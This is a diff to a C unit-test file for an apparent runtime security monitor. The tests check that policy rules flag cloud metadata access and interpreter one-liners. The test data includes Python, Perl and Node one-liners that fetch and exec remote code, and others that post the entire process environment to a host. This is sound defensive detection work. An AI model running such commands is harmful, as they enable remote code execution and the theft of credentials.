@@ -2237,6 +2237,15 @@ static void test_default_provenance(void **state)
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
 	e = ev_file(&x, "open-write", "/home/ci/src/project/.profile.d/x", NULL, 0, false);
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	/* the instance metadata service, by anything but a cloud CLI */
+	e = ev_connect(&x, "169.254.169.254", 80, "tcp", NULL, 0);
+	assert_true(ev_matches(p, e, "cloud-metadata-access"));
+	e = ev_connect(&x, "fd00:ec2::254", 80, "tcp", NULL, -110);
+	assert_true(ev_matches(p, e, "cloud-metadata-access"));
+	fx_set(&x.proc, "/usr/local/bin/aws", ARGV("aws", "s3", "cp", "a", "s3://b/a"), NPM_ANC);
+	assert_false(ev_matches(p, e, "cloud-metadata-access"));
+	e = ev_connect(&x, "169.254.169.253", 53, "udp", NULL, 0);
+	assert_false(ev_matches(p, e, "cloud-metadata-access"));
 	/* a git hook in the workspace; git init's samples are not */
 	e = ev_file(&x, "open-write", "/home/ci/src/project/.git/hooks/post-checkout", NULL, 0,
 		    false);
@@ -2246,29 +2255,75 @@ static void test_default_provenance(void **state)
 	e = ev_file(&x, "open-write", "/home/ci/src/project/.git/hooks/pre-commit.sample", NULL, 0,
 		    false);
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
-	/* a one-liner that evaluates code and connects itself: a fetch-and-run stager */
+	policy_free(p);
+}
+
+/* An interpreter's one-liner (-c, -e) connects to a web server: does rule match? */
+static bool oneliner_connects(const struct bw_policy *p, struct evx *x, const char *exe,
+			      const char *const *argv, const char *rule)
+{
+	struct bw_event_info *e = ev_connect(x, "185.199.108.133", 443, "tcp", NULL, 0);
+
+	fx_set(&x->proc, exe, argv, NPM_ANC);
+	x->proc.e.program_from = BW_PROG_ARGUMENT;
+	return ev_matches(p, e, rule);
+}
+
+/* The default's rules on what an interpreter's one-liner does once it connects. */
+static void test_default_oneliners_on_connect(void **state)
+{
+	const char *py = "/usr/bin/python3.11", *fe = "interpreter-fetch-eval",
+		   *es = "environment-sent-by-interpreter";
+	struct bw_policy *p = NULL;
+	const struct bw_rule *out[8];
+	struct bw_event_info *e;
+	struct evx x;
+
+	(void)state;
+	assert_int_equal(policy_load_default(&p, stderr), 0);
+	/* evaluates what it fetched: a stager */
+	assert_true(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"), fe));
+	assert_true(oneliner_connects(p, &x, "/usr/bin/perl",
+		ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"), fe));
+	assert_true(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import os,urllib.request as r; os.system(r.urlopen(u).read())"),
+		fe));
+	/* ... not a one-liner that only fetches, nor a script file, nor its DNS query */
+	assert_false(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"), fe));
 	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
-	fx_set(&x.proc, "/usr/bin/python3.11",
-	       ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"),
-	       NPM_ANC);
-	x.proc.e.program_from = BW_PROG_ARGUMENT;
-	assert_true(ev_matches(p, e, "interpreter-fetch-eval"));
-	fx_set(&x.proc, "/usr/bin/perl", ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"),
-	       NPM_ANC);
-	x.proc.e.program_from = BW_PROG_ARGUMENT;
-	assert_true(ev_matches(p, e, "interpreter-fetch-eval"));
-	/* ... not its DNS query, nor a one-liner that only fetches, nor a script file */
-	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
-	assert_false(ev_matches(p, e, "interpreter-fetch-eval"));
-	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
-	fx_set(&x.proc, "/usr/bin/python3.11",
-	       ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"),
-	       NPM_ANC);
-	x.proc.e.program_from = BW_PROG_ARGUMENT;
-	assert_int_equal(policy_match_event(p, e, out, 8), 0);
-	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
+	fx_set(&x.proc, py, ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
 	x.proc.e.program_from = BW_PROG_FILE;
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	assert_true(oneliner_connects(p, &x, py, ARGV("python3", "-c", "exec(a)"), fe));
+	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
+	fx_set(&x.proc, py, ARGV("python3", "-c", "exec(a)"), NPM_ANC);
+	x.proc.e.program_from = BW_PROG_ARGUMENT;
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	/* takes the whole environment: its upload */
+	assert_true(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c",
+		     "import os,urllib.request as u; u.urlopen(h, data=repr(dict(os.environ)).encode())"),
+		es));
+	assert_true(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import os,requests; requests.post(h, json=os.environ.copy())"),
+		es));
+	assert_true(oneliner_connects(p, &x, "/usr/bin/node",
+		ARGV("node", "-e", "fetch(h,{method:'POST',body:JSON.stringify(process.env)})"), es));
+	assert_true(oneliner_connects(p, &x, "/usr/bin/perl",
+		ARGV("perl", "-MHTTP::Tiny", "-e", "HTTP::Tiny->new->post_form($u, {%ENV})"), es));
+	/* ... not one variable of it */
+	assert_false(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ['URL'])"),
+		es));
+	assert_false(oneliner_connects(p, &x, py,
+		ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ.get('U'))"),
+		es));
+	assert_false(oneliner_connects(p, &x, "/usr/bin/node",
+		ARGV("node", "-e", "fetch(process.env.URL)"), es));
+	assert_false(oneliner_connects(p, &x, "/usr/bin/perl",
+		ARGV("perl", "-e", "print $ENV{HOME}"), es));
 	policy_free(p);
 }
 
@@ -2372,6 +2427,7 @@ int main(void)
 		cmocka_unit_test(test_default_silent_on_builds),
 		cmocka_unit_test(test_container),
 		cmocka_unit_test(test_default_catches_attacks),
+		cmocka_unit_test(test_default_oneliners_on_connect),
 		cmocka_unit_test(test_default_provenance),
 		cmocka_unit_test(test_deny_dynamic),
 	};
